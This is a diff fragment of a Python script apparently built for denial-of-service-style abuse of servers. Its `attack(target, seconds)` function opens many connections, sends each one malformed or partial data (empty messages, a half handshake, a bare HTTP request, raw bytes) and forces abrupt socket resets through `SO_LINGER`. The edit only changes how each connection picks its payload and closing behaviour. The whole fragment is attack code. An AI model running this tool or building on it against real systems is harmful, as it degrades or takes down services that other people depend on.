@@ -15,10 +15,10 @@ RUDENESS = [b"", HALF_HELLO, b"GET / HTTP/1.1\r\nHost: h\r\n\r\n", bytes(range(2
 
 def attack(target, seconds):
     def opened(connection):
-        connection.send(RUDENESS[crowd.made % len(RUDENESS)])
+        connection.send(RUDENESS[connection.number // 2 % len(RUDENESS)])
         # No orderly end: the server finds its socket reset.
         connection.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
-        if crowd.made % 2:
+        if connection.number % 2:
             connection.end()
         else:
             connection.state = 0
